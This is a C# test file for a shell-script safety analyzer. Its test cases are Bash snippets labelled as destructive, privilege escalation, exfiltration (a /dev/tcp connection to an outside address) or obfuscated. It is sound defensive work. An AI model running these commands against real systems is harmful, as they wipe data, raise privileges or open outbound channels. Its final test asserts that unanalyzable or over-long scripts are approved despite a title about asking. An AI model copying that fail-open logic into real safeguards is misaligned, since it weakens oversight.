using Platform.ShellAnalysis;
using Shouldly;

namespace Platform.Tests.ShellAnalysis;

internal sealed class When_scripts_are_judged
{
    [TestCase("ls | wc -l", "read_only")]
    [TestCase("x=$(df -P /); echo \"$x\"", "read_only")]
    [TestCase("if [ -f /srv/a ]; then cat /srv/a; fi", "read_only")]
    [TestCase("cat /srv/a 2>/dev/null >&2", "read_only")]
    [TestCase("echo 'rm -rf /'", "read_only")]
    [TestCase("ls > /srv/out", "mutating")]
    [TestCase("./install.sh", "unknown")]
    [TestCase("echo ''#; rm -rf /srv/a", "unknown")]
    [TestCase("ls #x\\\nrm -rf /srv/a", "unknown")]
    [TestCase("x=ls; trap '$x -rf /srv/a' EXIT; x=rm", "unknown")]
    [TestCase("rm() { :; }; command rm -rf /srv/a", "destructive")]
    [TestCase("(rm() { :; }); rm -rf /srv/a", "destructive")]
    [TestCase("x=rm; false && x=ls; $x -rf /srv/a", "unknown")]
    [TestCase("f() { \"$@\"; }; f rm -rf /srv/a", "destructive")]
    [TestCase("lvcreate -L 5G -n data vg0", "mutating")]
    [TestCase("parted -s /dev/sdb mklabel gpt", "destructive")]
    [TestCase("python3 tool.py --help", "unknown")]
    [TestCase("kubectl apply -f a.yaml --dry-run=none", "mutating")]
    [TestCase("rsync -n -e 'sh -c id' a b:", "privilege_escalation")]
    [TestCase("sort --brand-new-option a", "unknown")]
    [TestCase("GIT_CONFIG_COUNT=1 git status", "privilege_escalation")]
    [TestCase("\"$@\"", "unknown")]
    [TestCase("if", "unknown")]
    [TestCase("f() { rm /srv/a; }; f", "destructive")]
    [TestCase("trap 'rm /srv/a' EXIT", "destructive")]
    [TestCase("while true; do rm /srv/a; done", "destructive")]
    [TestCase("cat <<X | bash\nrm /srv/a\nX", "destructive")]
    [TestCase("ssh web01 bash <<X\nrm /srv/a\nX", "destructive")]
    [TestCase("sudo -u app env A=1 timeout 5 nice sh -c 'rm /srv/a'", "destructive")]
    [TestCase("diff <(rm /srv/a) /dev/null", "destructive")]
    [TestCase("> /dev/sda", "destructive")]
    [TestCase("echo x > /etc/sudoers.d/x", "privilege_escalation")]
    [TestCase("docker run alpine rm --help", "mutating")]
    [TestCase("exec 3<>/dev/tcp/198.51.100.7/80", "exfiltration")]
    [TestCase("r''m -rf /srv/a", "obfuscated")]
    public async Task Should_find_the_worst_wherever_it_stands(string script, string worst)
    {
        var analyzer = Shipped.Analyzer;
        var verdict = await analyzer.AnalyzeAsync(script, ShellLanguage.Bash);
        verdict.Class.Name().ShouldBe(worst, string.Join('\n', verdict.Reasons));
        verdict.Reasons.ShouldNotBeEmpty();
    }

    [TestCase("rm -rf \"$1\"/*", true)]
    [TestCase("rm -rf $dir/", true)]
    [TestCase("rm -rf /$dir", true)]
    [TestCase("find \"$dir/\" -delete", true)]
    [TestCase("rm -rf \"${dir:?}\"/*", false)]
    [TestCase("dir=/srv/a; rm -rf \"$dir\"/*", false)]
    [TestCase("rm -rf \"$1\"", false)]
    public async Task Should_block_what_an_empty_value_would_make_of_a_cleanup(string script, bool blocked)
    {
        var analyzer = Shipped.Analyzer;
        var verdict = await analyzer.AnalyzeAsync(script, ShellLanguage.Bash);
        verdict.Blocked.ShouldBe(blocked);
        verdict.Decision.ShouldBe(blocked ? Decision.Refuse : Decision.Approve);
        (await analyzer.AnalyzeAsync(script, ShellLanguage.Bash, new BoundValues([new("dir", "/srv/a"), new("1", "/srv/b")]))).Blocked.ShouldBeFalse();
    }

    [Test]
    public async Task Should_ask_where_the_parser_is_missing_or_the_script_too_long()
    {
        using var without = new ScriptAnalyzer(parser: "no-such-parser");
        var verdict = await without.AnalyzeAsync("ls", ShellLanguage.Bash);
        (verdict.Class, verdict.Decision).ShouldBe((EffectClass.Unknown, Decision.Approve));
        verdict.Reasons.ShouldContain(reason => reason.Contains("not installed"));
        (await without.AnalyzeAsync(new string('#', 10_001), ShellLanguage.Bash)).Decision.ShouldBe(Decision.Approve);
    }
}
